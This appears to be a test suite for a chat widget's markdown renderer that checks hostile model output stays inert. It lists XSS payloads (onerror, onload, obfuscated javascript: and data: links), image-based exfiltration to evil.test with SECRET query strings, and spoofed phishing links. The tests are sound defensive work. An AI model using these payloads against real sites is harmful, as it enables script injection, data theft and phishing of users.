// Hostile model output (relay-security.md §5 item 26): nothing executes, no remote image is fetched,
// links keep to http/https/mailto, and streaming keeps finished blocks' DOM nodes.
import { expect, fixture, html, aTimeout, waitUntil } from '@open-wc/testing';
import { render } from 'lit';
import { StreamingMarkdown, enforceAllowlist, renderMarkdownFragment, renderMarkdownText, safeUrl } from '../../src/elements/internal/markdown.js';
import { parseHostList, spoofedLinkHost } from '../../src/elements/internal/links.js';
import { loadMarkdown, markdown, markdownLoading } from '../../src/elements/internal/markdown-directive.js';
import { probeHits, resetProbe, probeUrl } from './helpers/probe.js';

declare global {
  interface Window { __pwned?: unknown }
}

const PWN = 'window.__pwned=1';

const hostile: Array<[string, string]> = [
  ['img onerror', `<img src=x onerror="${PWN}">`],
  ['img onerror inline', `hello <img src=x onerror=${PWN}> world`],
  ['svg onload', `<svg onload="${PWN}"><circle r=1 /></svg>`],
  ['svg onload inline', `text <svg/onload=${PWN}> text`],
  ['script block', `<script>${PWN}</script>`],
  ['script inline', `a <script>${PWN}</script> b`],
  ['iframe', `<iframe src="javascript:${PWN}"></iframe>`],
  ['details ontoggle', `<details open ontoggle="${PWN}"><summary>x</summary></details>`],
  ['raw anchor', `<a href="javascript:${PWN}">click</a>`],
  ['style tag', `<style>*{background:url(${probeUrl('css')})}</style>`],
  ['javascript link', `[click](javascript:${PWN})`],
  ['javascript link upper case', `[click](JaVaScRiPt:${PWN})`],
  ['javascript link with tab', `[click](java\tscript:${PWN})`],
  ['entity-obfuscated javascript', `[click](jav&#x61;script:${PWN})`],
  ['decimal entity javascript', `[click](&#106;avascript:${PWN})`],
  ['named entity colon', `[click](javascript&colon;${PWN})`],
  ['data link', `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`],
  ['data link plain', `[click](data:text/html,<script>${PWN}</script>)`],
  ['vbscript link', `[click](vbscript:msgbox(1))`],
  ['javascript autolink', `<javascript:${PWN}>`],
  ['javascript reference link', `[click][r]\n\n[r]: javascript:${PWN}`],
  ['javascript image', `![x](javascript:${PWN})`],
  ['link title breakout', `[x](https://ok.test "a\\" onmouseover=\\"${PWN}")`],
  ['code fence with html', '```html\n<img src=x onerror="' + PWN + '">\n```'],
  ['html in link text', `[<img src=x onerror=${PWN}>](https://ok.test)`],
];

function assertInert(root: Element | DocumentFragment) {
  for (const tag of ['script', 'svg', 'iframe', 'object', 'embed', 'style', 'details', 'form', 'input', 'math']) {
    expect(root.querySelector(tag), `<${tag}> rendered`).to.equal(null);
  }
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      expect(attr.startsWith('on'), `${el.localName} has ${attr}`).to.equal(false);
      expect(attr, 'style attribute').to.not.equal('style');
    }
  }
  for (const a of root.querySelectorAll('a')) {
    const href = a.getAttribute('href');
    if (href === null) continue;
    expect(['http:', 'https:', 'mailto:']).to.include(new URL(href).protocol);
    expect(a.getAttribute('target')).to.equal('_blank');
    expect(a.getAttribute('rel')).to.equal('noopener noreferrer nofollow');
  }
  for (const img of root.querySelectorAll('img')) {
    // Only images of allowed hosts survive; none of these fixtures allows any.
    expect(img.getAttribute('src'), 'image source').to.equal(null);
  }
}

describe('markdown renderer: hostile output', () => {
  beforeEach(() => {
    delete window.__pwned;
  });

  for (const [name, source] of hostile) {
    it(`renders ${name} inert`, async () => {
      const host = await fixture<HTMLDivElement>(html`<div></div>`);
      host.replaceChildren(renderMarkdownFragment(source));
      assertInert(host);
      // Click every link: none may run script.
      for (const a of host.querySelectorAll('a')) {
        a.addEventListener('click', (e) => e.preventDefault(), { once: true });
        a.click();
      }
      await aTimeout(20);
      expect(window.__pwned).to.equal(undefined);
    });
  }

  it('shows raw HTML as text', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.replaceChildren(renderMarkdownFragment(`Hi <b>bold</b> <img src=x onerror=${PWN}>`));
    expect(host.textContent).to.contain('<b>bold</b>');
    expect(host.textContent).to.contain('<img src=x onerror=');
    expect(host.querySelector('b')).to.equal(null);
  });

  it('keeps http, https and mailto links and opens them in a new tab', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.replaceChildren(renderMarkdownFragment('[a](https://a.test/x?y=1&z=2) [b](http://b.test) [c](mailto:c@c.test) <https://auto.test> www.gfm.test'));
    const links = [...host.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://a.test/x?y=1&z=2', 'http://b.test/', 'mailto:c@c.test', 'https://auto.test/', 'http://www.gfm.test/',
    ]);
    assertInert(host);
  });

  it('renders relative and unknown-protocol links as plain text', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.replaceChildren(renderMarkdownFragment('[rel](/path) [ftp](ftp://x.test/f) [tel](tel:123)'));
    expect(host.querySelectorAll('a').length).to.equal(0);
    expect(host.textContent).to.contain('rel');
  });

  it('safeUrl decodes entities and rejects dangerous protocols', () => {
    expect(safeUrl('jav&#x61;script:alert(1)')).to.equal(null);
    expect(safeUrl('&#x6A;&#x61;vascript:alert(1)')).to.equal(null);
    expect(safeUrl(' javascript:alert(1)')).to.equal(null);
    expect(safeUrl('data:text/html,x')).to.equal(null);
    expect(safeUrl('vbscript:x')).to.equal(null);
    expect(safeUrl('https://ok.test/a&amp;b')!.href).to.equal('https://ok.test/a&b');
  });

  it('the allowlist check strips what a broken builder could let through', () => {
    // Nodes as a faulty builder might make them (built in an inert document: nothing here may run or load).
    const inertDoc = document.implementation.createHTMLDocument('');
    const out = inertDoc.createElement('div');
    out.innerHTML = `<p onclick="${PWN}">x</p><a href="javascript:${PWN}">y</a><a href="https://ok.test/" target="_self">ok</a><img src="https://evil.test/x"><svg onload="${PWN}"><text>svg text</text></svg><p style="background:url(https://evil.test)" tabindex="3">z</p><form><input value="v"></form><pre>code</pre>`;
    enforceAllowlist(out);
    assertInert(out);
    expect(out.querySelector('p')!.hasAttribute('style')).to.equal(false);
    expect(out.querySelector('p:last-of-type')!.hasAttribute('tabindex')).to.equal(false);
    expect(out.querySelector('pre')!.getAttribute('tabindex')).to.equal('0');
    expect(out.querySelector('a')!.hasAttribute('href')).to.equal(false);
    expect(out.textContent).to.contain('svg text');
    out.innerHTML = '<p class="launcher visually-hidden language-js parley-task">x</p><p class="panel">y</p>';
    enforceAllowlist(out);
    expect([...out.querySelectorAll('p')].map((p) => p.getAttribute('class'))).to.deep.equal(['language-js parley-task', null]);
  });

  it('builds DOM from tokens: raw HTML is never parsed, whatever the markdown around it', () => {
    const parsed: string[] = [];
    const setter = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML')!;
    const createContextualFragment = Range.prototype.createContextualFragment;
    const parseFromString = DOMParser.prototype.parseFromString;
    Object.defineProperty(Element.prototype, 'innerHTML', {
      ...setter,
      set(this: Element, value: string) {
        // The entity decoder's textarea takes only text (RCDATA): no element can come of it.
        if (this.localName !== 'textarea') parsed.push(value);
        setter.set!.call(this, value);
      },
    });
    Range.prototype.createContextualFragment = function (this: Range, value: string) { parsed.push(value); return createContextualFragment.call(this, value); };
    DOMParser.prototype.parseFromString = function (this: DOMParser, value: string, type: DOMParserSupportedType) { parsed.push(value); return parseFromString.call(this, value, type); };
    let fragment: DocumentFragment;
    try {
      fragment = renderMarkdownFragment([
        '# Head <b>bold</b> &amp; &copy;', '', '<div onclick="x">block html</div>', '',
        '- [x] done <i>it</i>', '- [ ] todo', '', '| a | <u>b</u> |', '|:--|--:|', '| `c&amp;` | [l](https://l.test "t&amp;") |', '',
        '> quote <script>alert(1)</script>', '', '```js', '<img src=x onerror=alert(1)>', '```', '', '3. three', '4. four',
        '', '---', '', 'a  ', 'b ~~del~~ *em* **strong** \\<x>',
      ].join('\n'));
    } finally {
      Object.defineProperty(Element.prototype, 'innerHTML', setter);
      Range.prototype.createContextualFragment = createContextualFragment;
      DOMParser.prototype.parseFromString = parseFromString;
    }
    expect(parsed).to.deep.equal([]);
    const host = document.createElement('div');
    host.append(fragment);
    assertInert(host);
    const tags = new Set([...host.querySelectorAll('*')].map((el) => el.localName));
    for (const tag of ['b', 'div', 'i', 'u', 'script', 'img', 'input']) expect(tags.has(tag), `<${tag}>`).to.equal(false);
    expect(host.querySelector('h1')!.textContent).to.equal('Head <b>bold</b> & ©');
    expect(host.querySelector('p')!.textContent).to.equal('<div onclick="x">block html</div>');
    expect([...host.querySelectorAll('.parley-task')].map((el) => el.textContent)).to.deep.equal(['☑', '☐']);
    expect(host.querySelector('li')!.textContent).to.contain('done <i>it</i>');
    expect(host.querySelector('table')!.getAttribute('tabindex')).to.equal('0');
    expect([...host.querySelectorAll('th')].map((th) => [th.getAttribute('align'), th.textContent])).to.deep.equal([['left', 'a'], ['right', '<u>b</u>']]);
    expect(host.querySelector('td code')!.textContent).to.equal('c&amp;');
    expect(host.querySelector('td a')!.getAttribute('title')).to.equal('t&');
    expect(host.querySelector('blockquote')!.textContent).to.contain('<script>alert(1)</script>');
    expect(host.querySelector('pre')!.getAttribute('tabindex')).to.equal('0');
    expect(host.querySelector('pre code')!.className).to.equal('language-js');
    expect(host.querySelector('pre code')!.textContent).to.equal('<img src=x onerror=alert(1)>\n');
    expect(host.querySelector('ol')!.getAttribute('start')).to.equal('3');
    expect(host.querySelector('hr')).to.not.equal(null);
    expect(host.querySelector('br')).to.not.equal(null);
    expect(host.querySelector('del')!.textContent).to.equal('del');
    expect(host.querySelector('em')!.textContent).to.equal('em');
    expect(host.querySelector('strong')!.textContent).to.equal('strong');
    expect(host.lastElementChild!.textContent, 'a backslash escape is the character').to.equal('ab del em strong <x>');
  });

  it('a page\'s own marked settings change nothing', async () => {
    const { marked } = await import('marked');
    marked.use({ breaks: true, renderer: { paragraph: () => '<img src=x onerror="window.__pwned=1">' } });
    try {
      const host = document.createElement('div');
      host.append(renderMarkdownFragment('one\ntwo'));
      expect(host.innerHTML).to.equal('<p>one\ntwo</p>');
    } finally {
      marked.setOptions(marked.getDefaults());
    }
  });
});

describe('markdown renderer: loaded with the first text shown', () => {
  it('shows the text as it is until the renderer is loaded, then renders it', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    const source = '# Title <img src=x onerror="window.__pwned=1">\n\n- one';
    render(html`<div class="md" ${markdown(source, { streaming: false })}></div>`, host);
    const md = host.querySelector('.md')!;
    assertInert(host);
    // This file has not shown markdown before: the renderer is not loaded yet, the source shows as text.
    expect(markdownLoading(), 'loading').to.not.equal(null);
    expect(md.textContent).to.equal(source);
    await markdownLoading();
    expect(md.querySelector('h1')!.textContent).to.equal('Title <img src=x onerror="window.__pwned=1">');
    expect(md.querySelector('li')!.textContent).to.equal('one');
    expect(markdownLoading()).to.equal(null);
    assertInert(host);
  });
});

describe('markdown renderer: streaming', () => {
  before(async () => {
    await loadMarkdown();
  });

  beforeEach(() => {
    delete window.__pwned;
  });

  async function streamInto(deltas: string[], options: { allowImageHosts?: string[] } = {}) {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    let text = '';
    const snapshots: string[] = [];
    for (const delta of deltas) {
      text += delta;
      render(html`<div class="md" ${markdown(text, { streaming: true, ...options })}></div>`, host);
      assertInert(host);
      snapshots.push(host.innerHTML);
    }
    render(html`<div class="md" ${markdown(text, { streaming: false, ...options })}></div>`, host);
    assertInert(host);
    return host.querySelector<HTMLDivElement>('.md')!;
  }

  it('HTML split across deltas never becomes markup', async () => {
    const md = await streamInto(['Look: <im', 'g src=x on', 'error="', PWN, '"> and <scr', 'ipt>', PWN, '</scr', 'ipt>\n\n<svg', ' onload=', PWN, '>']);
    await aTimeout(20);
    expect(window.__pwned).to.equal(undefined);
    expect(md.textContent).to.contain('<img src=x onerror=');
  });

  it('a javascript: link split across deltas stays text', async () => {
    const md = await streamInto(['[click](jav', 'ascr', 'ipt:', PWN, ')']);
    expect(md.querySelector('a')).to.equal(null);
  });

  it('keeps the DOM nodes of finished blocks while the reply grows', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    const put = (text: string, streaming = true) => render(html`<div class="md" ${markdown(text, { streaming })}></div>`, host);
    put('# Title\n\nFirst para');
    const md = host.querySelector('.md')!;
    const h1 = md.querySelector('h1')!;
    expect(h1.textContent).to.equal('Title');
    put('# Title\n\nFirst paragraph.\n\nSecond');
    const p1 = md.querySelector('p')!;
    expect(p1.textContent).to.equal('First paragraph.');
    put('# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\n- one\n- two');
    put('# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\n- one\n- two\n- three', false);
    expect(md.querySelector('h1')).to.equal(h1);
    expect(md.querySelector('p')).to.equal(p1);
    expect([...md.querySelectorAll('li')].map((li) => li.textContent)).to.deep.equal(['one', 'two', 'three']);
    expect(md.children.length).to.equal(4);
  });

  it('a reference definition arriving later links earlier blocks without rendering the rest again', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    const put = (text: string, streaming = true) => render(html`<div class="md" ${markdown(text, { streaming })}></div>`, host);
    put('Intro.\n\nSee [the docs][d].\n\nMore');
    const md = host.querySelector('.md')!;
    const intro = md.querySelector('p')!;
    put('Intro.\n\nSee [the docs][d].\n\nMore text.\n\n[d]: https://docs.test/x\n\n');
    put('Intro.\n\nSee [the docs][d].\n\nMore text.\n\n[d]: https://docs.test/x\n\n', false);
    expect(md.querySelector('p')).to.equal(intro);
    expect(md.querySelector('a')!.getAttribute('href')).to.equal('https://docs.test/x');
  });

  it('renderMarkdownText: the text a reader reads, a space between blocks, only the first blocks up to a limit', () => {
    const text = 'Para **one**.\n\n- a\n- b\n\n<b>raw</b> and [link](javascript:alert(1))';
    expect(renderMarkdownText(text).replace(/\s+/g, ' ').trim()).to.equal('Para one. a b <b>raw</b> and link');
    expect(renderMarkdownText(text, 5).trim()).to.equal('Para one.');
  });

  it('StreamingMarkdown renders only the growing block per delta', () => {
    const stream = new StreamingMarkdown();
    let u = stream.update('Para one.\n\nPara');
    expect(u.finished.length).to.equal(1);
    expect(u.finished[0].textContent).to.equal('Para one.');
    expect(u.tail.textContent).to.equal('Para');
    u = stream.update('Para one.\n\nPara two');
    expect(u.finished.length).to.equal(0);
    expect(u.tail.textContent).to.equal('Para two');
    expect(u.tailSource).to.equal('Para two');
    u = stream.update('Other text');
    expect(u.reset).to.equal(true);
  });
});

describe('markdown renderer: images', () => {
  beforeEach(async () => {
    await resetProbe();
  });

  it('does not fetch a remote image, inline or reference-style, while streaming or finished', async () => {
    const secretInline = probeUrl('inline?q=SECRET');
    const secretRef = probeUrl('reference?q=SECRET');
    const text = `Summary ![](${secretInline}) and ![x][r] and ![](https://evil.test/?q=SECRET)\n\n![y][r]\n\n[r]: ${secretRef}\n`;
    const observed: string[] = [];
    const observer = new PerformanceObserver((list) => list.getEntries().forEach((e) => observed.push(e.name)));
    observer.observe({ type: 'resource', buffered: false });

    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    let acc = '';
    for (const ch of text.match(/.{1,5}/gs)!) {
      acc += ch;
      render(html`<div class="md" ${markdown(acc, { streaming: true, allowImageHosts: ['cdn.allowed.test'] })}></div>`, host);
    }
    render(html`<div class="md" ${markdown(acc, { streaming: false, allowImageHosts: ['cdn.allowed.test'] })}></div>`, host);
    const finished = document.createElement('div');
    finished.replaceChildren(renderMarkdownFragment(text, { allowImageHosts: ['cdn.allowed.test'] }));
    host.append(finished);

    await aTimeout(300);
    observer.disconnect();
    expect(host.querySelectorAll('img').length).to.equal(0);
    const placeholders = [...host.querySelectorAll('.parley-image-blocked')].map((el) => el.textContent);
    expect(placeholders.length).to.be.greaterThan(3);
    expect(placeholders.some((t) => t!.includes('evil.test'))).to.equal(true);
    expect(placeholders.some((t) => t!.includes(location.hostname))).to.equal(true);
    expect(observed.filter((name) => name.includes('SECRET') || name.includes('evil.test'))).to.deep.equal([]);
    expect(performance.getEntriesByType('resource').filter((e) => e.name.includes('SECRET'))).to.deep.equal([]);
    expect(await probeHits()).to.deep.equal([]);
  });

  it('loads images from allowed hosts', async () => {
    const src = probeUrl('allowed.png');
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.replaceChildren(renderMarkdownFragment(`![ok](${src}) ![ref][i]\n\n[i]: ${probeUrl('allowed-ref.png')}`, { allowImageHosts: parseHostList(`other.test ${location.hostname}`) }));
    const imgs = [...host.querySelectorAll('img')];
    expect(imgs.length).to.equal(2);
    // Loaded (not decode(): Firefox rejects it for an image that is still lazy).
    await waitUntil(() => imgs.every((img) => img.complete && img.naturalWidth > 0), 'both images loaded');
    expect(imgs[0].naturalWidth).to.equal(1);
    expect(imgs[0].getAttribute('referrerpolicy')).to.equal('no-referrer');
    const hits = await probeHits();
    expect(hits.map((h) => h.path)).to.have.members(['/api-test/probe/allowed.png', '/api-test/probe/allowed-ref.png']);
  });
});

describe('spoofed links', () => {
  it('detects link text showing another host than the href', () => {
    expect(spoofedLinkHost('https://bank.test/login', 'https://evil.test/login')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('bank.test', 'https://evil.test')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('Log in at https://bank.test now', 'https://evil.test')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('x', 'https://bank.test@evil.test/')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('bаnk.test', 'https://bank.test')).to.deep.equal({ shown: 'xn--bnk-6cd.test', real: 'bank.test' });
  });

  it('lets honest links through', () => {
    expect(spoofedLinkHost('the docs', 'https://docs.test')).to.equal(null);
    expect(spoofedLinkHost('docs.test/guide', 'https://docs.test/guide')).to.equal(null);
    expect(spoofedLinkHost('www.docs.test', 'https://docs.test/')).to.equal(null);
    expect(spoofedLinkHost('Node.js', 'https://nodejs.org')).to.equal(null);
    expect(spoofedLinkHost('https://docs.test', 'https://docs.test/')).to.equal(null);
  });
});

describe('spoofed link confirmation in <agent-chat>', () => {
  it('asks before opening a link whose text shows another host, and shows the real host', async () => {
    await import('../../src/elements/agent-chat/define.js');
    const { FakeSession, reply, userMessage } = await import('./helpers/fake-session.js');
    const session = new FakeSession();
    const el = await fixture<HTMLElement>(html`<agent-chat .session=${session}></agent-chat>`);
    session.set({
      conversationId: 'c1',
      entries: [
        userMessage('u1', 'Where do I log in?'),
        reply('r1', 'Log in at [https://bank.test/login](https://evil.test/steal) or read [the guide](https://docs.test/guide).'),
      ],
    });
    await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
    const root = el.shadowRoot!;
    const [spoofed, honest] = [...root.querySelectorAll<HTMLAnchorElement>('.markdown a')];
    expect(spoofed.rel).to.equal('noopener noreferrer nofollow');
    expect(spoofed.target).to.equal('_blank');

    const opened: unknown[][] = [];
    const realOpen = window.open;
    window.open = ((...args: unknown[]) => { opened.push(args); return null; }) as typeof window.open;
    // Navigation the element lets through is cancelled here (after the element's own handler ran).
    let navigations = 0;
    const stopNavigation = (e: Event) => { if (!e.defaultPrevented) navigations++; e.preventDefault(); };
    el.addEventListener('click', stopNavigation);
    try {
      honest.click();
      expect(navigations, 'an honest link opens directly').to.equal(1);
      const dialog = root.querySelector('dialog')!;
      expect(dialog.open).to.equal(false);

      spoofed.click();
      expect(navigations, 'the spoofed link did not navigate').to.equal(1);
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      expect(dialog.open).to.equal(true);
      expect(dialog.textContent).to.contain('bank.test');
      expect(dialog.querySelector('.real-host')!.textContent).to.equal('evil.test');
      dialog.querySelector<HTMLButtonElement>('.cancel')!.click();
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      expect(dialog.open).to.equal(false);
      expect(opened).to.deep.equal([]);

      spoofed.click();
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      dialog.querySelector<HTMLButtonElement>('.confirm')!.click();
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      expect(dialog.open).to.equal(false);
      expect(opened).to.deep.equal([['https://evil.test/steal', '_blank', 'noopener,noreferrer']]);
    } finally {
      window.open = realOpen;
      el.removeEventListener('click', stopNavigation);
    }
  });
});
